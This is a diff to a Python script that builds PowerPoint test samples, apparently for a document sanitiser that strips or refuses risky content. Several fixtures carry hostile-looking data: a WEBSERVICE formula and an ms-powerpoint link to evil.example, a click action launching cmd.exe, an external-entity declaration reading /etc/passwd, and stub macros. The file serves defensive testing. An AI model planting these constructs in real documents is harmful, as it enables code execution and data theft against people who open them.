@@ -153,6 +153,114 @@ def sheets():
     yield "a_binary_workbook_is_refused", "xlsx", package("xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main", "x")
 
 
+P = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
+PML = OOX + "presentationml."
+TREE_HEAD = '<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
+BLANK_THEME = ('<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="市"><a:themeElements><a:clrScheme name="市"><a:dk1><a:srgbClr val="000000"/></a:dk1><a:lt1><a:srgbClr val="FFFFFF"/></a:lt1><a:dk2><a:srgbClr val="333333"/></a:dk2><a:lt2><a:srgbClr val="EEEEEE"/></a:lt2>'
+               + "".join(f'<a:accent{i}><a:srgbClr val="0017C1"/></a:accent{i}>' for i in range(1, 7)) + '<a:hlink><a:srgbClr val="0017C1"/></a:hlink><a:folHlink><a:srgbClr val="0017C1"/></a:folHlink></a:clrScheme>'
+               '<a:fontScheme name="市"><a:majorFont><a:latin typeface="Arial"/><a:ea typeface=""/><a:cs typeface=""/></a:majorFont><a:minorFont><a:latin typeface="Arial"/><a:ea typeface=""/><a:cs typeface=""/></a:minorFont></a:fontScheme>'
+               '<a:fmtScheme name="市"><a:fillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:fillStyleLst><a:lnStyleLst><a:ln w="9525"/></a:lnStyleLst><a:effectStyleLst><a:effectStyle><a:effectLst/></a:effectStyle></a:effectStyleLst><a:bgFillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>')
+
+
+def words(text, more=""):
+    return f'<p:sp><p:nvSpPr><p:cNvPr id="2" name="題名">{more}</p:cNvPr><p:cNvSpPr/><p:nvPr><p:ph type="title"/></p:nvPr></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="ja-JP"/><a:t>{text}</a:t></a:r></a:p></p:txBody></p:sp>'
+
+
+def shape(more, media=""):
+    """A picture of rId2, with what makes it more than a picture."""
+    return f'<p:pic><p:nvPicPr><p:cNvPr id="4" name="図">{more}</p:cNvPr><p:cNvPicPr/><p:nvPr>{media}</p:nvPr></p:nvPicPr><p:blipFill><a:blip r:embed="rId2"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>'
+
+
+def frame(uri, inside):
+    return f'<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="7" name="物"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></p:xfrm><a:graphic><a:graphicData uri="{uri}">{inside}</a:graphicData></a:graphic></p:graphicFrame>'
+
+
+PICTURE = (("ppt/media/image1.png", None, png()), ("rId2", "image", "../media/image1.png", False))
+OLE = "http://schemas.openxmlformats.org/presentationml/2006/ole"
+
+
+def pptx(tree, parts=(), slide_rels=(), rels=(), behind="", main_type=PML + "presentation.main+xml", settings="", slides="", attributes="", defaults=(("png", "image/png"),), **more):
+    slide = f'<p:sld {P}{attributes}><p:cSld><p:spTree>{TREE_HEAD}{tree}</p:spTree></p:cSld><p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr>{behind}</p:sld>'
+    colours = 'bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" ' + " ".join(f'accent{i}="accent{i}"' for i in range(1, 7)) + ' hlink="hlink" folHlink="folHlink"'
+    page = f"<p:cSld><p:spTree>{TREE_HEAD}</p:spTree></p:cSld>"
+    house = [("ppt/slides/slide1.xml", PML + "slide+xml", HEAD + slide, [("rId1", "slideLayout", "../slideLayouts/slideLayout1.xml", False)] + list(slide_rels)),
+             ("ppt/slideLayouts/slideLayout1.xml", PML + "slideLayout+xml", HEAD + f'<p:sldLayout {P} type="title">{page}<p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sldLayout>', [("rId1", "slideMaster", "../slideMasters/slideMaster1.xml", False)]),
+             ("ppt/slideMasters/slideMaster1.xml", PML + "slideMaster+xml", HEAD + f'<p:sldMaster {P}>{page}<p:clrMap {colours}/><p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rId1"/></p:sldLayoutIdLst></p:sldMaster>',
+              [("rId1", "slideLayout", "../slideLayouts/slideLayout1.xml", False), ("rId2", "theme", "../theme/theme1.xml", False)]),
+             ("ppt/theme/theme1.xml", OOX + "theme+xml", HEAD + BLANK_THEME)]
+    main = f'<p:presentation {P}><p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rId1"/></p:sldMasterIdLst><p:sldIdLst><p:sldId id="256" r:id="rId2"/>{slides}</p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/>{settings}</p:presentation>'
+    return package("ppt/presentation.xml", main_type, main, house + list(parts), [("rId1", "slideMaster", "slideMasters/slideMaster1.xml", False), ("rId2", "slide", "slides/slide1.xml", False)] + list(rels), defaults=defaults, **more)
+
+
+def with_picture(more="", media="", parts=(), rels=(), **rest):
+    return pptx(words("窓口の案内") + shape(more, media), [PICTURE[0]] + list(parts), [PICTURE[1]] + list(rels), **rest)
+
+
+def book(value):
+    return xlsx(f'<c r="A1"><v>{value}</v></c>')
+
+
+def chart(external="", parts=(), rels=()):
+    """A slide with a pie of two points, and perhaps the workbook they came from."""
+    points = '<c:numRef><c:f>集計!$A$1:$A$2</c:f><c:numCache><c:ptCount val="2"/><c:pt idx="0"><c:v>12</c:v></c:pt><c:pt idx="1"><c:v>34</c:v></c:pt></c:numCache></c:numRef>'
+    body = f'<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><c:chart><c:plotArea><c:layout/><c:pieChart><c:varyColors val="1"/><c:ser><c:idx val="0"/><c:order val="0"/><c:val>{points}</c:val></c:ser></c:pieChart></c:plotArea></c:chart>{external}</c:chartSpace>'
+    drawn = frame("http://schemas.openxmlformats.org/drawingml/2006/chart", '<c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="rId2"/>')
+    return pptx(words("世帯数の推移") + drawn, [("ppt/charts/chart1.xml", OOX + "drawingml.chart+xml", HEAD + body) + ((list(rels),) if rels else ())] + list(parts), [("rId2", "chart", "../charts/chart1.xml", False)],
+                defaults=[("png", "image/png"), ("xlsx", SML + "sheet"), ("xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12")])
+
+
+def timing(effects):
+    node = '<p:par><p:cTn id="{}" {}>{}</p:cTn></p:par>'
+    return '<p:timing><p:tnLst>' + node.format(1, 'dur="indefinite" restart="never" nodeType="tmRoot"', f"<p:childTnLst>{effects}</p:childTnLst>") + "</p:tnLst></p:timing>"
+
+
+def presentations():
+    text = words("窓口の案内")
+    fade = '<p:par><p:cTn id="3" presetID="10" presetClass="entr" nodeType="clickEffect"><p:childTnLst><p:animEffect transition="in" filter="fade"><p:cBhvr><p:cTn id="4" dur="500"/><p:tgtEl><p:spTgt spid="2"/></p:tgtEl></p:cBhvr></p:animEffect></p:childTnLst></p:cTn></p:par>'
+    macro = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
+    yield "a_presentation_stays", "pptx", with_picture(behind='<p:transition spd="slow"><p:fade/></p:transition>' + timing(fade))
+    yield "a_slide_leads_to_a_slide", "pptx", pptx(words("目次", '<a:hlinkClick r:id="rId2" action="ppaction://hlinksldjump"/>') + words("次へ", '<a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>'), [("ppt/slides/slide2.xml", PML + "slide+xml", HEAD + f"<p:sld {P}><p:cSld><p:spTree>{TREE_HEAD}{text}</p:spTree></p:cSld></p:sld>", [("rId1", "slideLayout", "../slideLayouts/slideLayout1.xml", False), ("rId2", "slide", "slide1.xml", False)])],
+                                                   [("rId2", "slide", "slide2.xml", False)], [("rId3", "slide", "slides/slide2.xml", False)], slides='<p:sldId id="257" r:id="rId3"/>')
+    yield "notes_and_comments_stay", "pptx", pptx(text, [("ppt/notesSlides/notesSlide1.xml", PML + "notesSlide+xml", HEAD + f"<p:notes {P}><p:cSld><p:spTree>{TREE_HEAD}{words('読み上げる原稿')}</p:spTree></p:cSld></p:notes>", [("rId1", "slide", "../slides/slide1.xml", False)]),
+                                                         ("ppt/comments/comment1.xml", PML + "comments+xml", HEAD + f'<p:cmLst {P}><p:cm authorId="0" dt="2026-04-01T09:00:00.000" idx="1"><p:pos x="10" y="10"/><p:text>係長確認</p:text></p:cm></p:cmLst>'),
+                                                         ("ppt/commentAuthors.xml", PML + "commentAuthors+xml", HEAD + f'<p:cmAuthorLst {P}><p:cmAuthor id="0" name="係" initials="係" lastIdx="1" clrIdx="0"/></p:cmAuthorLst>')],
+                                                  [("rId2", "notesSlide", "../notesSlides/notesSlide1.xml", False), ("rId3", "comments", "../comments/comment1.xml", False)], [("rId3", "commentAuthors", "commentAuthors.xml", False)])
+    yield "a_chart_and_its_workbook_are_rebuilt", "pptx", chart('<c:externalData r:id="rId1"/>', [("ppt/embeddings/b.xlsx", None, xlsx('<c r="A1"><v>12</v></c><c r="B1" t="str"><f>_xlfn.WEBSERVICE("http://evil.example/")</f><v>前</v></c>'))], [("rId1", "package", "../embeddings/b.xlsx", False)])
+    yield "the_workbook_of_a_chart_loses_its_macro", "pptx", chart('<c:externalData r:id="rId1"/>', [("ppt/embeddings/b.xlsm", None, xlsx('<c r="A1"><v>12</v></c>', [("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject", b"\xd0\xcf\x11\xe0macro")], [("rId2", macro, "vbaProject.bin", False)], main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"))], [("rId1", "package", "../embeddings/b.xlsm", False)])
+    yield "a_chart_loses_the_book_it_came_from", "pptx", chart('<c:externalData r:id="rId1"/>', rels=[("rId1", "oleObject", "file:///\\\\server\\share\\a.xlsx", True)])
+    yield "a_hidden_slide_is_told", "pptx", pptx(text, attributes=' show="0"')
+    yield "a_macro_goes_and_pptm_becomes_pptx", "pptm", pptx(text, [("ppt/vbaProject.bin", "application/vnd.ms-office.vbaProject", b"\xd0\xcf\x11\xe0macro")], rels=[("rId9", macro, "vbaProject.bin", False)], main_type="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml")
+    yield "a_show_becomes_a_presentation", "ppsx", pptx(text, main_type=PML + "slideshow.main+xml")
+    yield "a_template_becomes_a_presentation", "potx", pptx(text, main_type=PML + "template.main+xml")
+    yield "a_show_with_macros_becomes_a_presentation", "ppsm", pptx(text, main_type="application/vnd.ms-powerpoint.slideshow.macroEnabled.main+xml")
+    yield "a_click_that_runs_a_macro_goes", "pptx", with_picture('<a:hlinkClick r:id="" action="ppaction://macro?name=go"/>')
+    yield "a_click_that_starts_a_program_goes", "pptx", with_picture('<a:hlinkClick r:id="rId3" action="ppaction://program"/>', rels=[("rId3", "hyperlink", "file:///c:/windows/system32/cmd.exe", True)])
+    yield "a_hover_that_acts_goes", "pptx", with_picture('<a:hlinkMouseOver r:id="rId3" action="ppaction://program"/>', rels=[("rId3", "hyperlink", "https://www.example.jp/", True)])
+    yield "a_link_with_a_bad_scheme_goes", "pptx", with_picture('<a:hlinkClick r:id="rId3"/>', rels=[("rId3", "hyperlink", "ms-powerpoint:ofe|u|http://evil.example/a.pptm", True)])
+    yield "a_command_goes_its_neighbour_stays", "pptx", pptx(text, behind=timing(fade + '<p:par><p:cTn id="5"><p:childTnLst><p:cmd type="verb" cmd="0"><p:cBhvr><p:cTn id="6"/><p:tgtEl><p:spTgt spid="2"/></p:tgtEl></p:cBhvr></p:cmd></p:childTnLst></p:cTn></p:par>'))
+    yield "a_film_goes_its_poster_stays", "pptx", with_picture('<a:hlinkClick r:id="" action="ppaction://media"/>', '<a:videoFile r:link="rId3"/>', rels=[("rId3", "video", "../media/m.mp4", False)], parts=[("ppt/media/m.mp4", None, b"\0\0\0\x18ftypmp42film")],
+           behind=timing('<p:video><p:cMediaNode><p:cTn id="2"/><p:tgtEl><p:spTgt spid="4"/></p:tgtEl></p:cMediaNode></p:video>'), defaults=[("png", "image/png"), ("mp4", "video/mp4")])
+    yield "a_sound_goes", "pptx", pptx(text, [("ppt/media/s.wav", None, b"RIFFsound")], [("rId2", "audio", "../media/s.wav", False)], behind='<p:transition><p:cut/><p:sndAc><p:stSnd><p:snd r:embed="rId2" name="s"/></p:stSnd></p:sndAc></p:transition>', defaults=[("wav", "audio/wav")])
+    yield "an_object_goes_its_picture_stays", "pptx", pptx(text + frame(OLE, '<p:oleObj name="物" r:id="rId3" imgW="1" imgH="1" progId="Package"><p:embed/>' + shape("") + "</p:oleObj>"), [PICTURE[0], ("ppt/embeddings/o.bin", None, b"\xd0\xcf\x11\xe0object")], [PICTURE[1], ("rId3", "oleObject", "../embeddings/o.bin", False)], defaults=[("png", "image/png"), ("bin", OOX + "oleObject")])
+    vml = '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><v:shape id="_x0000_s1026" style="width:9pt;height:9pt"><v:imagedata o:relid="rId1" o:title=""/></v:shape></xml>'
+    yield "an_old_object_goes_its_drawn_picture_stays", "pptx", pptx(text + frame(OLE, '<p:oleObj spid="_x0000_s1026" name="物" r:id="rId3" progId="PBrush"><p:embed/></p:oleObj>'), [PICTURE[0], ("ppt/drawings/v.vml", None, vml, [("rId1",) + PICTURE[1][1:]]), ("ppt/embeddings/o.bin", None, b"\xd0\xcf\x11\xe0object")],
+           [("rId2", "vmlDrawing", "../drawings/v.vml", False), ("rId3", "oleObject", "../embeddings/o.bin", False)], defaults=[("png", "image/png"), ("bin", OOX + "oleObject"), ("vml", OOX + "vmlDrawing")])
+    yield "a_linked_object_goes_its_picture_stays", "pptx", pptx(text + frame(OLE, '<p:oleObj name="物" r:id="rId3" progId="Excel.Sheet.12"><p:link updateAutomatic="1"/>' + shape("") + "</p:oleObj>"), [PICTURE[0]], [PICTURE[1], ("rId3", "oleObject", "file:///\\\\server\\a.xlsx!x", True)])
+    yield "a_book_in_a_slide_is_rebuilt", "pptx", pptx(text + frame(OLE, '<p:oleObj name="表" r:id="rId3" progId="Excel.Sheet.12"><p:embed/>' + shape("") + "</p:oleObj>"), [PICTURE[0], ("ppt/embeddings/b.xlsx", None, book(12345))], [PICTURE[1], ("rId3", "package", "../embeddings/b.xlsx", False)], defaults=[("png", "image/png"), ("xlsx", SML + "sheet")])
+    yield "an_activex_control_goes", "pptx", pptx(text, [("ppt/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>")], [("rId2", "control", "../activeX/activeX1.xml", False)])
+    yield "tags_go", "pptx", pptx(text, [("ppt/tags/tag1.xml", PML + "tags+xml", HEAD + f'<p:tagLst {P}><p:tag name="A" val="B"/></p:tagLst>')], rels=[("rId9", "tags", "tags/tag1.xml", False)], settings='<p:custDataLst><p:tags r:id="rId9"/></p:custDataLst>')
+    yield "an_embedded_font_goes", "pptx", pptx(text, [("ppt/fonts/f.fntdata", None, b"font")], rels=[("rId9", "font", "fonts/f.fntdata", False)], settings='<p:embeddedFontLst><p:embeddedFont><p:font typeface="外字"/><p:regular r:id="rId9"/></p:embeddedFont></p:embeddedFontLst>', defaults=[("fntdata", "application/x-fontdata")])
+    yield "a_place_to_publish_goes", "pptx", pptx(text, [("ppt/presProps.xml", PML + "presProps+xml", HEAD + f'<p:presentationPr {P}><p:htmlPubPr r:id="rId1"/><p:showPr><p:present/></p:showPr></p:presentationPr>', [("rId1", "htmlPubSaveAs", "\\\\server\\web\\a.htm", True)])], rels=[("rId9", "presProps", "presProps.xml", False)])
+    yield "a_picture_from_outside_goes", "pptx", pptx(text + shape("").replace("r:embed", "r:link"), slide_rels=[("rId2", "image", "https://evil.example/track.png", True)])
+    yield "a_signature_becomes_void", "pptx", pptx(text, [("_xmlsignatures/origin.sigs", None, b"")], root=[("rId9", "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin", "_xmlsignatures/origin.sigs", False)], defaults=[("sigs", "application/vnd.openxmlformats-package.digital-signature-origin")])
+    yield "a_web_extension_goes", "pptx", pptx(text + frame("http://schemas.microsoft.com/office/webextensions/webextension/2010/11", '<we:webextensionref xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" r:id="rId2"/>'), [("ppt/webextensions/w.xml", "application/vnd.ms-office.webextension+xml", "<x/>")], [("rId2", "http://schemas.microsoft.com/office/2011/relationships/webextension", "../webextensions/w.xml", False)])
+    yield "custom_xml_goes", "pptx", pptx(text, [("customXml/item1.xml", None, "<a/>")], rels=[("rId9", "customXml", "../customXml/item1.xml", False)])
+    yield "entities_are_refused", "pptx", pptx(text, [("ppt/tableStyles.xml", PML + "tableStyles+xml", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')], rels=[("rId9", "tableStyles", "tableStyles.xml", False)])
+    yield "unknown_markup_goes", "pptx", pptx(text + '<q:act xmlns:q="urn:unknown"><q:now/></q:act>')
+    yield "a_program_before_the_presentation_is_refused", "pptx", b"MZ\x90\0program" + pptx(text)
+    yield "two_parts_of_one_name_are_refused", "pptx", duplicate(pptx(text), b"ppt/presentation.xml", b"PPT/Presentation.xml")
+
+
 def package_with_link(cell):
     link = ("xl/externalLinks/externalLink1.xml", SML + "externalLink+xml", HEAD + f'<externalLink {X}><externalBook r:id="rId1"/></externalLink>', [("rId1", "externalLinkPath", "file:///\\\\server\\a.xlsx", True)])
     return xlsx(cell + '<c r="C1"><f>[1]Sheet1!A1</f><v>7</v></c>', [link], [("rId2", "externalLink", "externalLinks/externalLink1.xml", False)], names='<externalReferences><externalReference r:id="rId2"/></externalReferences>')
@@ -223,7 +331,7 @@ def archives():
     yield "bytes_behind_the_archive_are_refused", "zip", pack([("a.txt", text)]) + b"hidden"
 
 
-for kind, samples in (("docx", documents), ("xlsx", sheets), ("zip", archives)):
+for kind, samples in (("docx", documents), ("xlsx", sheets), ("pptx", presentations), ("zip", archives)):
     if len(sys.argv) > 1 and kind not in sys.argv[1:]:
         continue
     for name, extension, content in samples():
